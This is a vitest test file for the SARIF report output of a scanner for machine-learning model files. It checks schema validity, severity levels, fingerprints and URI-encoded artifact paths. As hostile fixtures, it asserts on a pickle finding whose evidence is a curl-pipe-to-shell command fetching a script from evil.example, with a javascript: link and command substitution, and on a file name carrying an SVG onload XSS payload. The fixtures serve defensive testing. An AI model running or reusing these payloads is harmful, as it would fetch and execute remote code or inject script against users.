import { beforeAll, describe, expect, it } from 'vitest';
import { FINGERPRINT_KEY, SARIF_LEVELS, SECURITY_SEVERITY, type SarifLog, stableHash, toSarif } from '../../src/report/sarif.ts';
import type { Finding, Report } from '../../src/report/types.ts';
import { RULES, createFinding } from '../../src/rules/index.ts';
import { HOSTILE, SHELL_COMMAND, sampleReport, syntheticReport } from './sample-reports.ts';
import { validateSarif } from './schema-validators.ts';

describe('toSarif', () => {
  let report: Report;
  let log: SarifLog;
  beforeAll(async () => {
    report = await sampleReport();
    log = toSarif(report);
  });

  // The first validation compiles the schema: seconds on a loaded machine.
  it('is valid against the official SARIF 2.1.0 schema', { timeout: 60_000 }, () => {
    const { valid, errors } = validateSarif(log);
    expect(errors).toEqual([]);
    expect(valid).toBe(true);
  });

  it('the schema check is live: broken logs are rejected', () => {
    const broken = structuredClone(log) as unknown as { runs: Array<{ results: Array<Record<string, unknown>>; artifacts: Array<{ location: { uri: string } }> }> };
    broken.runs[0].results[0].level = 'fatal';
    expect(validateSarif(broken).valid).toBe(false);
    const badUri = structuredClone(log);
    badUri.runs[0].artifacts[2].location.uri = HOSTILE.path;
    expect(validateSarif(badUri).errors.map((error) => error.params)).toContainEqual({ format: 'uri-reference' });
  });

  it('has one run whose driver names the tool and describes every rule used, from the catalog', () => {
    expect(log.version).toBe('2.1.0');
    expect(log.runs).toHaveLength(1);
    const driver = log.runs[0].tool.driver;
    expect(driver).toMatchObject({ name: 'preflight', version: '0.1.0', semanticVersion: '0.1.0' });
    const used = [...new Set(report.files.flatMap((file) => file.findings.map((finding) => finding.rule)))].sort();
    expect(driver.rules.map((rule) => rule.id)).toEqual(used);
    for (const rule of driver.rules) {
      const definition = RULES[rule.id as keyof typeof RULES];
      expect(rule.shortDescription.text).toBe(definition.title);
      expect(rule.fullDescription.text).toBe(definition.explanation);
      expect(rule.help.text).toContain(definition.explanation);
      expect(rule.defaultConfiguration.level).toBe(SARIF_LEVELS[definition.severity]);
      expect(rule.properties['security-severity']).toBe(SECURITY_SEVERITY[definition.severity].toFixed(1));
      expect(rule.properties.tags).toEqual(['security', ...new Set(definition.references)]);
      expect(rule.name).toMatch(/^[A-Z][A-Za-z0-9]*$/);
    }
  });

  it.each([
    ['critical', 'error', '9.5'],
    ['high', 'error', '8.0'],
    ['medium', 'warning', '5.5'],
    ['low', 'note', '3.0'],
    ['info', 'note', '0.5'],
  ] as const)('maps severity %s to level %s and security-severity %s', (severity, level, score) => {
    expect(SARIF_LEVELS[severity]).toBe(level);
    expect(SECURITY_SEVERITY[severity].toFixed(1)).toBe(score);
  });

  it('has one result per finding, in order, with its rule, level, message and byte region', () => {
    const results = log.runs[0].results;
    const findings = report.files.flatMap((file, fileIndex) => file.findings.map((finding) => ({ file, fileIndex, finding })));
    expect(results).toHaveLength(findings.length);
    results.forEach((result, index) => {
      const { file, fileIndex, finding } = findings[index];
      expect(result.ruleId).toBe(finding.rule);
      expect(log.runs[0].tool.driver.rules[result.ruleIndex].id).toBe(finding.rule);
      expect(result.level).toBe(SARIF_LEVELS[finding.severity]);
      expect(result.message.text.startsWith(`${finding.title}: `)).toBe(true);
      const location = result.locations[0];
      expect(location.physicalLocation.artifactLocation.index).toBe(fileIndex);
      expect(log.runs[0].artifacts[fileIndex].location.uri).toBe(location.physicalLocation.artifactLocation.uri);
      if (finding.location.entry) {
        expect(location.physicalLocation.region).toBeUndefined();
        expect(location.logicalLocations).toEqual([{ name: finding.location.entry, fullyQualifiedName: `${file.path}!/${finding.location.entry}`, kind: 'member' }]);
        expect(result.properties).toMatchObject({ entry: finding.location.entry, entryOffset: finding.location.offset });
        expect(result.message.text).toContain(`In entry ${finding.location.entry} at offset ${finding.location.offset}.`);
      } else if (finding.location.offset !== undefined) {
        expect(location.physicalLocation.region?.byteOffset).toBe(finding.location.offset);
        expect(location.physicalLocation.region?.byteLength).toBe(finding.location.length);
      }
    });
  });

  it('puts the evidence in the message, with brackets escaped so no viewer makes a link of them', () => {
    const call = log.runs[0].results.find((result) => result.ruleId === 'pickle.call.dangerous')!;
    expect(call.message.text).toContain('Evidence: os.system("curl -s http://evil.example/x.sh | sh # `id` \\[x\\](javascript:alert(1))")');
    expect(call.properties.evidence).toBe(`os.system("${SHELL_COMMAND}")`);
  });

  it('describes each scanned file as an artifact with its SHA-256 and a URI-encoded relative path', () => {
    const artifacts = log.runs[0].artifacts;
    expect(artifacts.map((artifact) => artifact.location.uri)).toEqual([
      'evil.pkl',
      'checkpoints/model.pt',
      'models/%3Csvg%20onload%3Dalert(3)%3E%20%22q%22%20%26%20%60tick%60%20%7C%20pipe%20%5Bl%5D(http%3A//x).safetensors',
    ]);
    artifacts.forEach((artifact, index) => {
      expect(decodeURIComponent(artifact.location.uri)).toBe(report.files[index].path);
      expect(artifact.hashes).toEqual({ 'sha-256': report.files[index].sha256 });
      expect(artifact.length).toBe(report.files[index].size);
      expect(artifact.properties).toMatchObject({ format: report.files[index].format, verdict: report.files[index].verdict });
    });
    expect(artifacts[2].properties).toMatchObject({ tensorCount: 3, parameterCount: 17 });
    expect(artifacts[0].properties.weightsOnlyAccepted).toBe(false);
  });

  it('fingerprints results stably across runs and uniquely within one', async () => {
    const again = toSarif(await sampleReport());
    const fingerprints = log.runs[0].results.map((result) => result.partialFingerprints[FINGERPRINT_KEY]);
    expect(again.runs[0].results.map((result) => result.partialFingerprints[FINGERPRINT_KEY])).toEqual(fingerprints);
    expect(new Set(fingerprints).size).toBe(fingerprints.length);
    for (const fingerprint of fingerprints) expect(fingerprint).toMatch(/^[0-9a-f]{16}:\d+$/);
  });

  it('tells identical findings apart by occurrence, and keeps them when the scan date changes', () => {
    const twice: Finding[] = [0, 1].map(() => createFinding('format.unsupported', { detail: 'same', location: { offset: 0 } }));
    const first = toSarif(syntheticReport({ findings: twice }));
    const later = toSarif({ ...syntheticReport({ findings: twice }), createdAt: '2030-01-01T00:00:00.000Z' });
    const keys = first.runs[0].results.map((result) => result.partialFingerprints[FINGERPRINT_KEY]);
    expect(keys[0]).not.toBe(keys[1]);
    expect(keys[0].split(':')[0]).toBe(keys[1].split(':')[0]);
    expect(later.runs[0].results.map((result) => result.partialFingerprints[FINGERPRINT_KEY])).toEqual(keys);
  });

  it('describes a rule missing from the catalog from the finding itself, and stays valid', () => {
    const finding: Finding = {
      rule: 'future.rule',
      severity: 'medium',
      title: 'A rule from a newer version',
      detail: 'detail',
      explanation: 'explanation',
      location: { offset: 7, length: 3 },
      references: ['CWE-20'],
    };
    const future = toSarif(syntheticReport({ findings: [finding], sha256: null }));
    expect(future.runs[0].tool.driver.rules[0]).toMatchObject({
      id: 'future.rule',
      name: 'FutureRule',
      shortDescription: { text: 'A rule from a newer version' },
      defaultConfiguration: { level: 'warning' },
      properties: { tags: ['security', 'CWE-20'], 'security-severity': '5.5' },
    });
    expect(future.runs[0].artifacts[0].hashes).toBeUndefined();
    expect(future.runs[0].invocations[0].executionSuccessful).toBe(false);
    expect(validateSarif(future).errors).toEqual([]);
  });

  it('makes absolute paths file URIs', () => {
    const absolute = toSarif(syntheticReport({ path: '/data/models/a b.gguf' }));
    expect(absolute.runs[0].artifacts[0].location.uri).toBe('file:///data/models/a%20b.gguf');
    expect(validateSarif(absolute).errors).toEqual([]);
  });

  it('hashes stably (FNV-1a 64 known answers)', () => {
    expect(stableHash('')).toBe('cbf29ce484222325');
    expect(stableHash('a')).toBe('af63dc4c8601ec8c');
    expect(stableHash('foobar')).toBe('85944171f73967e8');
  });
});
